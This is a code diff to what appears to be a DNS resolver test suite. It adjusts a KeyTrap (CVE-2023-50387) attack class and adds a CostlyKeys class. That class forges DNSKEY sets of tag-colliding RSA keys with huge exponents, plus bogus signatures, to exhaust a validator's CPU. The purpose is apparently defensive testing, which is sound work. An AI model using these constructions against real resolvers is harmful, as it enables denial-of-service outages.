@@ -189,7 +189,7 @@ class ThousandsOfTxt(Attack):
 
 class KeyTrap(Attack):
     """80 keys of one tag, 80 signatures by none of them over every set (KeyTrap, CVE-2023-50387)."""
-    tells = "dnssec-"
+    tells = "keys of one zone: 32"
     signed = True
     records = {("_acme-challenge.app", "TXT"): [VALUE]}
 
@@ -216,6 +216,45 @@ class KeyTrap(Attack):
                     each.clear()
                     for i in range(80):
                         each.add(good.replace(signature=bytes([i + 1]) * len(good.signature)))
+
+
+class CostlyKeys(Attack):
+    """24 RSA keys of one tag with the costliest exponents, new signatures in each reply of 40 servers."""
+    tells = "signatures verified: 1000|run's time-out"
+    timeout = 10
+    signed = True
+    cached = False
+    servers = {f"ns{i}.shop.example.": f"45.97.0.{i + 1}" for i in range(40)}
+    records = {("_acme-challenge.app", "TXT"): [VALUE]}
+    bits = 3072  # up to here OpenSSL takes exponents of any size
+
+    def __init__(self):
+        super().__init__()
+        size = self.bits // 8
+        draw = random.Random(1)
+        modulus = bytearray(b"\xff" + draw.randbytes(size - 2) + b"\x01")
+        exponent = b"\x7f" + draw.randbytes(size - 2) + b"\x01"
+        self.costly = []
+        for i in range(24):  # two words swapped: the same sum, which is the tag
+            swapped = bytearray(modulus)
+            at = 2 + 2 * i
+            swapped[at:at + 2], swapped[at + 100:at + 102] = modulus[at + 100:at + 102], modulus[at:at + 2]
+            key = b"\0" + struct.pack("!H", size) + exponent + bytes(swapped)
+            self.costly.append(self.shop.key.replace(algorithm=8, key=key))
+        self.key_set = dns.rrset.from_rdata_list(APEX, 300, [self.shop.key, *self.costly])
+
+    def sign(self, ask, zone, *more):
+        if zone is self.shop and ask.type == "DNSKEY" and ask.reply.answer:
+            ask.reply.answer = [self.key_set]
+        super().sign(ask, zone, *more)
+        if zone is not self.shop or ask.type in ("DNSKEY", "SOA"):
+            return
+        for section in (ask.reply.answer, ask.reply.authority):
+            for each in section:
+                if each.rdtype == dns.rdatatype.RRSIG:
+                    section[section.index(each)] = dns.rrset.from_rdata_list(each.name, 300, [each[0].replace(
+                        algorithm=8, key_tag=dns.dnssec.key_id(self.costly[0]),
+                        signature=b"\0" + random.randbytes(self.bits // 8 - 1)) for _ in range(8)])
 
 
 class ManyIterations(Attack):
